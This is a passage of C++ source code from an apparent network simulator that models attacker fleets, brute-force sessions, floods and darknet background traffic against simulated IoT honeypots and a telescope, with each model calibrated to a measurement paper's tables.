           background;
  }
};

struct FleetConfig {
  std::uint64_t seed = 99;
  sim::Duration duration = sim::days(30);
  // Scales honeypot-side attack volumes relative to the paper's Table 7.
  double event_scale = 1.0 / 16;
  // Scales telescope background packet volume relative to Table 8 (the
  // paper sees 2.7e9 IoT-protocol packets per day; simulating each is
  // infeasible, so the generator samples at this rate).
  double telescope_rate_scale = 1.0 / 4'000'000;
  // Scales the unique-source population behind the telescope traffic.
  double telescope_source_scale = 1.0 / 40'000;
  // Multiplier applied to malicious arrivals after public listings begin
  // (Figure 8's post-listing uptrend).
  double listing_boost = 1.6;
  // SYN retries per Telnet attack session when a connect times out under
  // fault injection (net/faults.h). 1 = no retries, the fault-free default.
  int session_connect_attempts = 1;
  // Attacker-group toggles; see Roster above.
  Roster roster;
};

// Whole packets a Table 8 pool emits on one day. Truncation (not rounding)
// preserves the historical `static_cast<int>` semantics, but in 64 bits: at
// telescope_rate_scale = 1 the Telnet row alone is 2.7B packets/day, which
// wrapped the old 32-bit cast (tests/fleet_test.cpp pins the fix).
std::uint64_t bg_packets_today(double packets_per_day);

class Fleet {
 public:
  Fleet(FleetConfig config, devices::Population& population,
        const honeynet::Deployment& deployment,
        telescope::Telescope& telescope);
  ~Fleet();

  // Creates attacker hosts, registers intel ground truth, and schedules the
  // whole campaign onto the fabric's simulation.
  void deploy(net::Fabric& fabric, intel::ReverseDns& rdns,
              intel::VirusTotalDb& virustotal, intel::GreyNoiseDb& greynoise,
              intel::CensysDb& censys);

  const MalwareCorpus& malware() const { return malware_; }
  const ScanServiceFleet& scan_services() const { return *scan_services_; }
  const std::vector<ListingEvent>& listings() const {
    return scan_services_->listings();
  }

  // Tor relay registry (ExoneraTor ground truth for the §5.1.6 analysis).
  const intel::ExoneraTor& exonerator() const { return exonerator_; }

  // Ground truth for validation.
  std::vector<util::Ipv4Addr> infected_device_addresses() const;
  std::vector<util::Ipv4Addr> external_attacker_addresses() const;
  std::size_t multistage_attacker_count() const { return multistage_count_; }
  std::uint64_t sessions_launched() const { return sessions_launched_; }

 private:
  struct HoneypotTarget {
    std::string name;
    util::Ipv4Addr address;
    std::vector<proto::Protocol> protocols;
  };

  void deploy_infected_devices(intel::VirusTotalDb& virustotal,
                               intel::CensysDb& censys);
  void deploy_external_attackers(intel::ReverseDns& rdns,
                                 intel::VirusTotalDb& virustotal,
                                 intel::GreyNoiseDb& greynoise,
                                 intel::CensysDb& censys);
  void deploy_dos_events();
  void deploy_multistage_attackers();
  void deploy_background_radiation(intel::VirusTotalDb& virustotal);

  // Schedules Poisson arrivals of `session` over the campaign; rate ramps
  // by listing_boost once public listings exist.
  void schedule_sessions(double total_sessions,
                         std::function<void(util::Rng&)> session);

  // One malicious session from `source` against honeypot `target` on
  // `protocol`.
  void attack_session(net::Host& source, const HoneypotTarget& target,
                      proto::Protocol protocol, util::Rng& rng);

  FleetConfig config_;
  devices::Population& population_;
  telescope::Telescope& telescope_;
  net::Fabric* fabric_ = nullptr;
  util::Rng rng_;
  MalwareCorpus malware_;
  std::vector<HoneypotTarget> targets_;
  std::unique_ptr<ScanServiceFleet> scan_services_;
  std::vector<std::unique_ptr<net::Host>> external_hosts_;
  // The first scanner_only_count_ entries of external_hosts_ are one-shot
  // suspicious scanners that never attack (Table 7's "unknown" sources).
  std::size_t scanner_only_count_ = 0;
  // Each attacking pool host specialises in one protocol (a Telnet bot
  // stays a Telnet bot); only the deliberate multistage attackers cross
  // protocols, keeping Figure 9 a real measurement.
  std::map<proto::Protocol, std::vector<net::Host*>> pool_by_protocol_;
  std::vector<devices::Device*> infected_;
  intel::ExoneraTor exonerator_;
  std::size_t multistage_count_ = 0;
  std::uint64_t sessions_launched_ = 0;
  bool listed_ = false;  // set once the first public listing happens
};

}  // namespace ofh::attackers
