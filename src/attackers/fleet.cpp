#include "attackers/fleet.h"

#include <cmath>

#include "attackers/credentials.h"
#include "attackers/probes.h"
#include "devices/paper_stats.h"

namespace ofh::attackers {

namespace {

// Average logged events per malicious session, per protocol (connect +
// login attempts + commands / discovery + floods, weighted by the behaviour
// mix in attack_session). Converts Table 7 event counts into session
// arrival intensities.
double events_per_session(proto::Protocol protocol) {
  using P = proto::Protocol;
  switch (protocol) {
    case P::kTelnet: return 6.0;
    case P::kSsh: return 6.0;
    case P::kMqtt: return 6.0;
    case P::kAmqp: return 7.0;
    case P::kXmpp: return 2.5;
    case P::kCoap: return 7.0;
    case P::kUpnp: return 12.0;
    case P::kHttp: return 8.0;
    case P::kSmb: return 3.0;
    case P::kFtp: return 3.5;
    case P::kModbus: return 10.0;
    case P::kS7: return 7.0;
  }
  return 4.0;
}

}  // namespace

std::uint64_t bg_packets_today(double packets_per_day) {
  if (!(packets_per_day > 0)) return 0;  // negative or NaN: emit nothing
  return static_cast<std::uint64_t>(packets_per_day);
}

Fleet::Fleet(FleetConfig config, devices::Population& population,
             const honeynet::Deployment& deployment,
             telescope::Telescope& telescope)
    : config_(config),
      population_(population),
      telescope_(telescope),
      rng_(util::Rng(config.seed).fork("fleet")),
      malware_(config.seed, /*scale=*/0.25) {
  for (const auto& honeypot : deployment.honeypots) {
    targets_.push_back(HoneypotTarget{honeypot->name(), honeypot->address(),
                                      honeypot->protocols()});
  }
}

Fleet::~Fleet() {
  for (auto& host : external_hosts_) {
    if (host->attached()) host->detach();
  }
}

void Fleet::deploy(net::Fabric& fabric, intel::ReverseDns& rdns,
                   intel::VirusTotalDb& virustotal,
                   intel::GreyNoiseDb& greynoise, intel::CensysDb& censys) {
  fabric_ = &fabric;

  // Malware corpus is known to VirusTotal (the paper identifies samples by
  // hash lookup).
  for (const auto& sample : malware_.samples()) {
    virustotal.add_hash(sample.sha256, sample.family);
    virustotal.flag_url(sample.dropper_url);
  }

  // Scanning services: sized from the paper's 10,696 unique IPs.
  ScanServiceFleet::Config scan_config;
  scan_config.seed = config_.seed + 1;
  scan_config.total_sources = std::max<std::size_t>(
      20, static_cast<std::size_t>(devices::paper::kHoneypotScanServiceIps *
                                   config_.event_scale));
  scan_config.duration = config_.duration;
  scan_config.on_listing = [this](const ListingEvent&) { listed_ = true; };
  std::vector<util::Ipv4Addr> addresses;
  for (const auto& target : targets_) addresses.push_back(target.address);
  // The fleet object always exists (accessors like listings() stay valid);
  // only its deployment is roster-gated, so a scan-services-off run simply
  // never lists the honeypots and listing_boost never kicks in.
  scan_services_ = std::make_unique<ScanServiceFleet>(
      std::move(scan_config), addresses, telescope_.range());
  if (config_.roster.scan_services) {
    scan_services_->deploy(fabric, rdns,
                           [this] { return population_.allocate_extra(); });

    // GreyNoise knows most — not all — scanning-service sources (the paper
    // found 2,023 of 10,696 missing from GreyNoise, ~81% coverage).
    util::Rng gn_rng = rng_.fork("greynoise");
    for (const auto addr : scan_services_->source_addresses()) {
      if (gn_rng.chance(0.81)) {
        greynoise.classify(addr, intel::GreyNoiseClass::kBenign);
      }
    }
  }

  // Each group forks its own labelled rng stream, so the subset that runs
  // is bit-identical to the same group inside a full campaign.
  if (config_.roster.infected) deploy_infected_devices(virustotal, censys);
  if (config_.roster.external) {
    deploy_external_attackers(rdns, virustotal, greynoise, censys);
  }
  if (config_.roster.dos) deploy_dos_events();
  if (config_.roster.multistage) deploy_multistage_attackers();
  if (config_.roster.background) deploy_background_radiation(virustotal);
}

// ------------------------------------------------------------ infected bots

void Fleet::deploy_infected_devices(intel::VirusTotalDb& virustotal,
                                    intel::CensysDb& censys) {
  // Infected devices run bot behaviour, so they are the one slice of the
  // population that must exist as real hosts: materialize exactly them.
  for (std::uint64_t i = 0; i < population_.size(); ++i) {
    if (population_.infected_at(i)) {
      infected_.push_back(population_.device_at(i));
    }
  }

  util::Rng rng = rng_.fork("infected");
  sim::Simulation& sim = fabric_->sim();

  for (devices::Device* device : infected_) {
    // All infected devices the paper correlated were flagged by at least
    // one VirusTotal vendor.
    virustotal.flag_ip(device->address(),
                       1 + static_cast<int>(rng.below(12)));
    if (rng.chance(0.5)) {
      censys.tag_iot(device->address(), device->spec().device_type);
    }

    // Behaviour bucket: 8,697/11,118 hit both honeypots and telescope,
    // 1,147 only honeypots, 1,274 only the telescope (§5.3).
    const double bucket = rng.uniform();
    const bool hits_honeypots = bucket < 0.782 || bucket >= 0.897;
    const bool hits_telescope = bucket < 0.897;

    const int sessions = 3 + static_cast<int>(rng.below(5));
    for (int i = 0; i < sessions; ++i) {
      const sim::Time when = rng.below(config_.duration);
      util::Rng session_rng = rng.fork("bot-session" + std::to_string(i));
      sim.at(when, [this, device, hits_honeypots, hits_telescope,
                    session_rng]() mutable {
        if (!device->attached()) return;
        if (hits_telescope) {
          // Mirai-style random scanning: a burst of SYNs into the darknet.
          const int probes = 4 + static_cast<int>(session_rng.below(8));
          for (int p = 0; p < probes; ++p) {
            const util::Ipv4Addr dark(
                telescope_.range().base().value() +
                static_cast<std::uint32_t>(
                    session_rng.below(telescope_.range().size())));
            scan_address(*device, dark, proto::Protocol::kTelnet);
          }
        }
        if (hits_honeypots && !targets_.empty()) {
          // An infected device attacks over the protocol its own infection
          // spreads on (Mirai bots scan Telnet, not the whole portfolio),
          // so bots don't read as multistage attackers.
          const proto::Protocol preferred =
              device->spec().primary == proto::Protocol::kTelnet ||
                      device->spec().primary == proto::Protocol::kMqtt
                  ? device->spec().primary
                  : proto::Protocol::kTelnet;
          for (const auto& target : targets_) {
            bool speaks = false;
            for (const auto protocol : target.protocols) {
              if (protocol == preferred) speaks = true;
            }
            if (speaks) {
              attack_session(*device, target, preferred, session_rng);
              break;
            }
          }
        }
      });
    }
  }
}

// --------------------------------------------------------- external attacks

void Fleet::deploy_external_attackers(intel::ReverseDns& rdns,
                                      intel::VirusTotalDb& virustotal,
                                      intel::GreyNoiseDb& greynoise,
                                      intel::CensysDb& censys) {
  util::Rng rng = rng_.fork("external");

  // Pool sized from Table 7's malicious unique sources (69,690 total). The
  // first slice are one-time suspicious scanners (the "unknown" sources).
  const std::size_t pool_size = std::max<std::size_t>(
      50, static_cast<std::size_t>(69'690 * config_.event_scale / 4));
  scanner_only_count_ = pool_size / 8;
  for (std::size_t i = 0; i < pool_size; ++i) {
    auto host = std::make_unique<net::Host>(population_.allocate_extra());
    host->attach(*fabric_);
    const bool scanner_only = i < scanner_only_count_;
    // VirusTotal coverage of malicious actors is partial (Figure 6 shows
    // 20–70% flagged depending on protocol); one-time scanners are rarely
    // known to any vendor.
    if (rng.chance(scanner_only ? 0.1 : 0.45)) {
      virustotal.flag_ip(host->address(), 1 + static_cast<int>(rng.below(8)));
    }
    if (!scanner_only && rng.chance(0.3)) {
      greynoise.classify(host->address(), intel::GreyNoiseClass::kMalicious);
    }
    // §5.3: Censys tags some attack sources as IoT devices even though they
    // are outside our misconfigured set (the paper's +1,671 additional IoT
    // attackers, mostly cameras, routers and IP phones).
    // A sliver of attack sources carry a Censys "iot" tag (1,671 of the
    // paper's ~90k non-correlated sources; cameras, routers, IP phones).
    if (rng.chance(0.005)) {
      static const char* kIotTypes[] = {"Camera", "Router", "IP Phone"};
      censys.tag_iot(host->address(), kIotTypes[rng.below(3)]);
    }
    // §5.3: some attack sources resolve to registered domains serving
    // default web pages; a subset of those URLs are flagged malicious.
    if (rng.chance(0.06)) {
      const std::string domain =
          "host" + std::to_string(i) + ".attacker-domains.example";
      rdns.add(host->address(), domain);
      if (rng.chance(0.45)) {
        virustotal.flag_url("http://" + domain + "/");
      }
    }
    external_hosts_.push_back(std::move(host));
    if (!scanner_only) {
      // Assign a protocol specialty round-robin over the Table 7 rows so
      // each protocol's source pool is proportional to its attack volume.
      const auto& rows = devices::paper::table7();
      const auto& row = rows[i % rows.size()];
      pool_by_protocol_[row.protocol].push_back(external_hosts_.back().get());
    }
  }

  // Tor exit relays attacking HTTP (§5.1.6: 151 unique Tor IPs).
  const std::size_t tor_count = std::max<std::size_t>(
      2, static_cast<std::size_t>(devices::paper::kTorRelayIps *
                                  config_.event_scale));
  std::vector<net::Host*> tor_hosts;
  for (std::size_t i = 0; i < tor_count; ++i) {
    auto host = std::make_unique<net::Host>(population_.allocate_extra());
    host->attach(*fabric_);
    rdns.add(host->address(),
             "tor-exit-" + std::to_string(i) + ".torproject.org");
    exonerator_.add_relay(host->address());
    tor_hosts.push_back(host.get());
    external_hosts_.push_back(std::move(host));
  }

  // One arrival process per Table 7 (honeypot, protocol) row, calibrated to
  // its event count.
  for (const auto& row : devices::paper::table7()) {
    const HoneypotTarget* target = nullptr;
    for (const auto& candidate : targets_) {
      if (candidate.name == row.honeypot) target = &candidate;
    }
    if (target == nullptr) continue;
    const double sessions =
        row.events * config_.event_scale / events_per_session(row.protocol);
    const auto protocol = row.protocol;
    const HoneypotTarget target_copy = *target;
    const std::size_t scanner_slice = scanner_only_count_;
    schedule_sessions(sessions, [this, target_copy, protocol, tor_hosts,
                                 scanner_slice](util::Rng& rng) {
      // A share of suspicious traffic is one-time scans from sources that
      // never attack — they end up in Table 7's "unknown" column. Those
      // sessions come from a dedicated slice of the pool so the source
      // stays behaviourally clean.
      if (rng.chance(0.14) && scanner_slice > 0) {
        // One-shot scanners are per-protocol too: a suspicious source that
        // probes many protocols would read as a multistage attacker.
        const std::size_t lane =
            static_cast<std::size_t>(protocol) % scanner_slice;
        const std::size_t lanes =
            std::max<std::size_t>(1, scanner_slice / 12);
        net::Host& scanner =
            *external_hosts_[(lane * lanes + rng.below(lanes)) %
                             scanner_slice];
        probe_one_protocol(scanner, target_copy.address, protocol);
        return;
      }
      net::Host* source = nullptr;
      if (protocol == proto::Protocol::kHttp && rng.chance(0.12) &&
          !tor_hosts.empty()) {
        source = tor_hosts[rng.below(tor_hosts.size())];  // Tor scraping
      } else {
        const auto pool = pool_by_protocol_.find(protocol);
        if (pool != pool_by_protocol_.end() && !pool->second.empty()) {
          source = pool->second[rng.below(pool->second.size())];
        } else {
          const std::size_t index =
              scanner_slice +
              rng.below(external_hosts_.size() - scanner_slice);
          source = external_hosts_[index].get();
        }
      }
      attack_session(*source, target_copy, protocol, rng);
    });
  }
}

void Fleet::schedule_sessions(double total_sessions,
                              std::function<void(util::Rng&)> session) {
  sim::Simulation& sim = fabric_->sim();
  const std::uint64_t total_days =
      std::max<std::uint64_t>(1, sim::to_days(config_.duration));
  const double base_per_day = total_sessions / static_cast<double>(total_days);
  auto shared_session =
      std::make_shared<std::function<void(util::Rng&)>>(std::move(session));

  for (std::uint64_t day = 0; day < total_days; ++day) {
    sim.at(sim::days(day), [this, base_per_day, day, shared_session] {
      util::Rng day_rng = rng_.fork("day" + std::to_string(day));
      // The post-listing uptrend of Figure 8.
      const double rate =
          base_per_day * (listed_ ? config_.listing_boost : 1.0);
      // 64-bit: at paper scale a single day's arrivals can exceed INT_MAX.
      const std::int64_t arrivals =
          static_cast<std::int64_t>(rate) +
          (day_rng.chance(rate - std::floor(rate)) ? 1 : 0);
      for (std::int64_t i = 0; i < arrivals; ++i) {
        const sim::Time when =
            fabric_->sim().now() + day_rng.below(sim::days(1));
        auto arrival_rng = std::make_shared<util::Rng>(
            day_rng.fork("arrival" + std::to_string(i)));
        fabric_->sim().at(when, [this, shared_session, arrival_rng] {
          ++sessions_launched_;
          (*shared_session)(*arrival_rng);
        });
      }
    });
  }
}

void Fleet::attack_session(net::Host& source, const HoneypotTarget& target,
                           proto::Protocol protocol, util::Rng& rng) {
  using P = proto::Protocol;
  switch (protocol) {
    case P::kTelnet: {
      const MalwareSample* drop =
          rng.chance(0.5) ? &malware_.pick(P::kTelnet, rng) : nullptr;
      bruteforce_telnet(source, target.address,
                        sample_credentials(P::kTelnet, rng, 3), drop,
                        config_.session_connect_attempts);
      break;
    }
    case P::kSsh: {
      const MalwareSample* drop =
          rng.chance(0.4) ? &malware_.pick(P::kSsh, rng) : nullptr;
      bruteforce_ssh(source, target.address,
                     sample_credentials(P::kSsh, rng, 3), drop);
      break;
    }
    case P::kMqtt:
      attack_mqtt(source, target.address, /*poison=*/rng.chance(0.45));
      break;
    case P::kAmqp:
      // Occasional publish floods caused the AMQP DoS the paper mentions.
      attack_amqp(source, target.address,
                  rng.chance(0.1) ? 24 : 1 + static_cast<int>(rng.below(3)));
      break;
    case P::kXmpp:
      attack_xmpp(source, target.address);
      break;
    case P::kCoap:
      if (rng.chance(0.15)) {
        flood_coap(source, target.address, 30);
      } else {
        attack_coap(source, target.address, rng.chance(0.35));
      }
      break;
    case P::kUpnp:
      if (rng.chance(0.5)) {
        flood_ssdp(source, target.address, 22);
      } else {
        flood_ssdp(source, target.address, 1);  // plain discovery
      }
      break;
    case P::kHttp:
      if (rng.chance(0.1)) {
        flood_http(source, target.address, 18);
      } else {
        attack_http(source, target.address, rng.chance(0.7),
                    rng.chance(0.4));
      }
      break;
    case P::kSmb:
      attack_smb(source, target.address, rng.chance(0.7));
      break;
    case P::kFtp: {
      const MalwareSample* drop =
          rng.chance(0.35) ? &malware_.pick(P::kFtp, rng) : nullptr;
      attack_ftp(source, target.address, drop);
      break;
    }
    case P::kModbus:
      attack_modbus(source, target.address, rng);
      break;
    case P::kS7:
      attack_s7(source, target.address,
                rng.chance(0.2) ? 24 : 1 + static_cast<int>(rng.below(3)));
      break;
  }
}

// ------------------------------------------------------------------ DoS days

void Fleet::deploy_dos_events() {
  sim::Simulation& sim = fabric_->sim();
  // Figure 8 highlights major DoS events on days 24 and 26. The CoAP flood
  // came from two sources at the same time (§5.1.3).
  if (config_.duration < sim::days(27) || targets_.empty()) return;

  const HoneypotTarget* hostage = nullptr;
  const HoneypotTarget* upot = nullptr;
  for (const auto& target : targets_) {
    if (target.name == "HosTaGe") hostage = &target;
    if (target.name == "U-Pot") upot = &target;
  }

  // Spike sizes scale with the overall attack volume so the Figure 8 peaks
  // stay in proportion to the daily baseline.
  // 64-bit: at event_scale = 1 these are small, but the scale sweep keeps
  // every packet-count computation wide so no future scale-up can wrap.
  const std::int64_t coap_flood = std::max<std::int64_t>(
      40, static_cast<std::int64_t>(11'543 * config_.event_scale / 4));
  const std::int64_t ssdp_flood = std::max<std::int64_t>(
      40, static_cast<std::int64_t>(17'101 * config_.event_scale / 3));

  if (hostage != nullptr) {
    const util::Ipv4Addr victim = hostage->address;
    sim.at(sim::days(24) + sim::hours(3), [this, victim, coap_flood] {
      util::Rng rng = rng_.fork("dos24");
      for (int source_index = 0; source_index < 2; ++source_index) {
        net::Host& source =
            *external_hosts_[rng.below(external_hosts_.size())];
        flood_coap(source, victim, coap_flood);
      }
    });
  }
  if (upot != nullptr) {
    const util::Ipv4Addr victim = upot->address;
    sim.at(sim::days(26) + sim::hours(14), [this, victim, ssdp_flood] {
      util::Rng rng = rng_.fork("dos26");
      // Two adversaries that had scanned the protocol three days earlier
      // (§5.1.3) return with UDP floods.
      for (int source_index = 0; source_index < 2; ++source_index) {
        net::Host& source =
            *external_hosts_[rng.below(external_hosts_.size())];
        flood_ssdp(source, victim, ssdp_flood);
      }
    });
    // Their reconnaissance three days before.
    sim.at(sim::days(23) + sim::hours(14), [this, victim] {
      util::Rng rng = rng_.fork("dos26");
      for (int source_index = 0; source_index < 2; ++source_index) {
        net::Host& source =
            *external_hosts_[rng.below(external_hosts_.size())];
        flood_ssdp(source, victim, 1);
      }
    });
  }

  // Randomly-spoofed SYN floods against devices elsewhere on the Internet:
  // their backscatter reaches the telescope and feeds the RSDoS metadata
  // pipeline (the third CAIDA data product, §3.4).
  {
    util::Rng rsdos_rng = rng_.fork("rsdos-plan");
    const int attack_count =
        2 + static_cast<int>(rsdos_rng.below(3));
    for (int attack = 0; attack < attack_count; ++attack) {
      const sim::Time when = rsdos_rng.below(config_.duration);
      sim.at(when, [this, attack] {
        util::Rng rng = rng_.fork("rsdos" + std::to_string(attack));
        // Victim: a random Telnet device with an open listener. The victim
        // stays a packed column entry — the flood's handshake responses are
        // emulated by the fabric (Fabric::send_flood), so no Device is
        // materialized for a pure DoS target.
        for (int tries = 0; tries < 32; ++tries) {
          const std::uint64_t victim = rng.below(population_.size());
          if (population_.primary_at(victim) != proto::Protocol::kTelnet) {
            continue;
          }
          net::Host& source =
              *external_hosts_[rng.below(external_hosts_.size())];
          syn_flood_spoofed(source, population_.address_at(victim), 23, 2'500,
                            rng);
          break;
        }
      });
    }
  }
}

// -------------------------------------------------------- multistage chains

void Fleet::deploy_multistage_attackers() {
  util::Rng rng = rng_.fork("multistage");
  sim::Simulation& sim = fabric_->sim();

  multistage_count_ = std::max<std::size_t>(
      3, static_cast<std::size_t>(devices::paper::kMultistageAttacks *
                                  config_.event_scale));

  for (std::size_t i = 0; i < multistage_count_; ++i) {
    net::Host* source =
        external_hosts_[scanner_only_count_ +
                        rng.below(external_hosts_.size() -
                                  scanner_only_count_)]
            .get();
    // Figure 9: chains mostly start at Telnet/SSH, move to SMB, end at S7.
    std::vector<std::pair<std::string, proto::Protocol>> chain;
    const bool telnet_first = rng.chance(0.6);
    chain.push_back(telnet_first
                        ? std::make_pair(std::string("Cowrie"),
                                         proto::Protocol::kTelnet)
                        : std::make_pair(std::string("HosTaGe"),
                                         proto::Protocol::kSsh));
    if (rng.chance(0.85)) {
      chain.push_back({"Dionaea", proto::Protocol::kSmb});
    }
    if (rng.chance(0.55)) {
      chain.push_back({"Conpot", proto::Protocol::kS7});
    }

    sim::Time when = rng.below(config_.duration - sim::days(3));
    for (const auto& [honeypot, protocol] : chain) {
      const HoneypotTarget* target = nullptr;
      for (const auto& candidate : targets_) {
        if (candidate.name == honeypot) target = &candidate;
      }
      if (target == nullptr) continue;
      const HoneypotTarget target_copy = *target;
      auto step_rng = std::make_shared<util::Rng>(
          rng.fork("step" + std::to_string(when)));
      const auto step_protocol = protocol;
      sim.at(when, [this, source, target_copy, step_protocol, step_rng] {
        attack_session(*source, target_copy, step_protocol, *step_rng);
      });
      when += sim::hours(2) + rng.below(sim::days(1));
    }
  }
}

// --------------------------------------------------- background radiation

void Fleet::deploy_background_radiation(intel::VirusTotalDb& virustotal) {
  sim::Simulation& sim = fabric_->sim();
  util::Rng rng = rng_.fork("background");

  // One synthetic source pool per protocol, sized from Table 8's unique-IP
  // columns. Sources are bare addresses (no hosts): darknet traffic never
  // needs replies, and most of the real sources are infected devices
  // somewhere on the Internet, outside our population.
  struct Background {
    proto::Protocol protocol;
    double packets_per_day;
    std::vector<util::Ipv4Addr> sources;
  };
  std::vector<Background> pools;
  for (const auto& row : devices::paper::table8()) {
    Background pool;
    pool.protocol = row.protocol;
    pool.packets_per_day = row.daily_avg * config_.telescope_rate_scale;
    const auto source_count = std::max<std::size_t>(
        3, static_cast<std::size_t>(row.unique_ips *
                                    config_.telescope_source_scale));
    // Telnet darknet traffic is overwhelmingly Mirai-infected devices,
    // widely known to VirusTotal; the smaller protocols less so (Fig. 6 T).
    const double vt_rate =
        row.protocol == proto::Protocol::kTelnet ? 0.45 : 0.18;
    for (std::size_t i = 0; i < source_count; ++i) {
      // Synthetic global addresses outside the population prefixes.
      const util::Ipv4Addr source(
          0xd0'00'00'00u +
          static_cast<std::uint32_t>(rng.next() % 0x0fffffff));
      if (rng.chance(vt_rate)) {
        virustotal.flag_ip(source, 1 + static_cast<int>(rng.below(6)));
      }
      pool.sources.push_back(source);
    }
    pools.push_back(std::move(pool));
  }

  const std::uint64_t total_days = sim::to_days(config_.duration);
  for (std::uint64_t day = 0; day < total_days; ++day) {
    sim.at(sim::days(day), [this, day, pools] {
      util::Rng day_rng = rng_.fork("bg-day" + std::to_string(day));
      for (const auto& pool : pools) {
        // 64-bit day count: at paper scale the Telnet pool alone tops 2.7e9
        // packets/day, which a 32-bit cast would truncate.
        const std::uint64_t packets = bg_packets_today(pool.packets_per_day);
        std::vector<net::FlowPacket> batch;
        batch.reserve(packets);
        for (std::uint64_t i = 0; i < packets; ++i) {
          const auto src = pool.sources[day_rng.below(pool.sources.size())];
          const util::Ipv4Addr dst(
              telescope_.range().base().value() +
              static_cast<std::uint32_t>(
                  day_rng.below(telescope_.range().size())));
          net::Packet packet;
          packet.src = src;
          packet.dst = dst;
          packet.src_port =
              static_cast<std::uint16_t>(1024 + day_rng.below(60'000));
          packet.dst_port = proto::default_port(pool.protocol);
          packet.transport = proto::is_udp(pool.protocol)
                                 ? net::Transport::kUdp
                                 : net::Transport::kTcp;
          packet.tcp_flags = proto::is_udp(pool.protocol)
                                 ? 0
                                 : net::TcpFlags::kSyn;
          packet.ttl = static_cast<std::uint8_t>(32 + day_rng.below(96));
          packet.spoofed_src = day_rng.chance(0.08);
          packet.from_masscan = day_rng.chance(0.15);
          if (!proto::is_udp(pool.protocol)) {
            packet.payload.clear();
          } else {
            packet.payload = util::to_bytes("bgprobe");
          }
          const sim::Time when =
              fabric_->sim().now() + day_rng.below(sim::days(1));
          batch.push_back(net::FlowPacket{std::move(packet), when});
        }
        // One flow call replaces `packets` heap-scheduled closures. Telescope
        // traffic rides the inline fast path: same tables, no event storm.
        fabric_->send_flow(std::move(batch));
      }
    });
  }
}

std::vector<util::Ipv4Addr> Fleet::infected_device_addresses() const {
  std::vector<util::Ipv4Addr> out;
  for (const devices::Device* device : infected_) {
    out.push_back(device->address());
  }
  return out;
}

std::vector<util::Ipv4Addr> Fleet::external_attacker_addresses() const {
  std::vector<util::Ipv4Addr> out;
  for (const auto& host : external_hosts_) out.push_back(host->address());
  return out;
}

}  // namespace ofh::attackers
