// Credential dictionaries used by brute-force bots: the Telnet and SSH
// default-credential lists of paper Table 12, with the observed frequencies
// as sampling weights, so the honeypots' credential tallies reproduce the
// paper's ranking.
#pragma once

#include <vector>

#include "proto/service.h"
#include "util/rng.h"

namespace ofh::attackers {

// Full dictionary for a protocol (Telnet or SSH), ordered by frequency.
const std::vector<proto::Credentials>& dictionary(proto::Protocol protocol);

// Samples a short credential list for one bot session: a weighted draw of
// dictionary entries (bots try a handful per victim).
std::vector<proto::Credentials> sample_credentials(proto::Protocol protocol,
                                                   util::Rng& rng,
                                                   std::size_t count);

}  // namespace ofh::attackers
