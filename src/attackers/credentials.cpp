#include "attackers/credentials.h"

#include "devices/paper_stats.h"

namespace ofh::attackers {

const std::vector<proto::Credentials>& dictionary(proto::Protocol protocol) {
  static const auto build = [](proto::Protocol which) {
    std::vector<proto::Credentials> out;
    for (const auto& row : devices::paper::table12()) {
      if (row.protocol == which) {
        out.push_back({std::string(row.user), std::string(row.pass)});
      }
    }
    return out;
  };
  static const std::vector<proto::Credentials> kTelnet =
      build(proto::Protocol::kTelnet);
  static const std::vector<proto::Credentials> kSsh =
      build(proto::Protocol::kSsh);
  return protocol == proto::Protocol::kSsh ? kSsh : kTelnet;
}

std::vector<proto::Credentials> sample_credentials(proto::Protocol protocol,
                                                   util::Rng& rng,
                                                   std::size_t count) {
  std::vector<double> weights;
  for (const auto& row : devices::paper::table12()) {
    if (row.protocol == protocol ||
        (protocol != proto::Protocol::kSsh &&
         row.protocol == proto::Protocol::kTelnet)) {
      if (row.protocol == protocol) {
        weights.push_back(static_cast<double>(row.count));
      }
    }
  }
  const auto& dict = dictionary(protocol);
  std::vector<proto::Credentials> out;
  for (std::size_t i = 0; i < count; ++i) {
    const auto index = rng.weighted(weights);
    if (index < dict.size()) out.push_back(dict[index]);
  }
  if (out.empty() && !dict.empty()) out.push_back(dict.front());
  return out;
}

}  // namespace ofh::attackers
