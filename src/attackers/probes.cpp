#include "attackers/probes.h"

#include "attackers/credentials.h"
#include "net/fabric.h"
#include "obs/trace.h"
#include "proto/amqp.h"
#include "proto/coap.h"
#include "proto/http.h"
#include "proto/modbus.h"
#include "proto/mqtt.h"
#include "proto/s7.h"
#include "proto/smb.h"
#include "proto/ssdp.h"
#include "proto/ssh.h"
#include "proto/telnet.h"
#include "proto/xmpp.h"

namespace ofh::attackers {

namespace {

// Mints a causal id for one attacker primitive and records its kProbe
// event; the caller keeps the returned id ambient (TraceContext) while it
// issues the primitive's traffic.
std::uint64_t trace_attack(net::Host& from, util::Ipv4Addr target,
                           std::uint16_t port, std::uint8_t protocol_code) {
  const std::uint64_t trace_id = obs::mint_trace_id();
  obs::trace_event(obs::TraceEventType::kProbe, from.sim().now(), trace_id,
                   from.address().value(), target.value(), port,
                   static_cast<std::uint8_t>(obs::TraceProbeOrigin::kAttacker),
                   protocol_code);
  return trace_id;
}

std::uint64_t trace_attack(net::Host& from, util::Ipv4Addr target,
                           std::uint16_t port, proto::Protocol protocol) {
  return trace_attack(from, target, port,
                      static_cast<std::uint8_t>(protocol));
}

// Connects, optionally sends a stimulus, reads briefly and aborts.
void tcp_touch(net::Host& from, util::Ipv4Addr target, std::uint16_t port,
               util::Bytes stimulus) {
  from.tcp().connect(target, port,
                     [stimulus = std::move(stimulus), &from](
                         net::TcpConnection* conn) mutable {
                       if (conn == nullptr) return;
                       if (!stimulus.empty()) conn->send(std::move(stimulus));
                       const net::ConnKey key{conn->local_port(),
                                              conn->remote_addr(),
                                              conn->remote_port()};
                       net::TcpStack* stack = &from.tcp();
                       from.sim().after(sim::seconds(2), [stack, key] {
                         net::TcpConnection* live = stack->lookup(key);
                         if (live != nullptr) live->abort();
                       });
                     });
}

}  // namespace

void probe_one_protocol(net::Host& from, util::Ipv4Addr target,
                        proto::Protocol protocol) {
  const obs::TraceContext trace(
      trace_attack(from, target, proto::default_port(protocol), protocol));
  switch (protocol) {
    case proto::Protocol::kTelnet:
      tcp_touch(from, target, 23, {});
      break;
    case proto::Protocol::kMqtt: {
      proto::mqtt::ConnectPacket connect;
      connect.client_id = "probe";
      tcp_touch(from, target, 1883, proto::mqtt::encode_connect(connect));
      break;
    }
    case proto::Protocol::kAmqp:
      tcp_touch(from, target, 5672, proto::amqp::protocol_header());
      break;
    case proto::Protocol::kXmpp:
      tcp_touch(from, target, 5222,
                util::to_bytes(proto::xmpp::stream_open("probe")));
      break;
    case proto::Protocol::kCoap:
      from.udp().send(target, 5683,
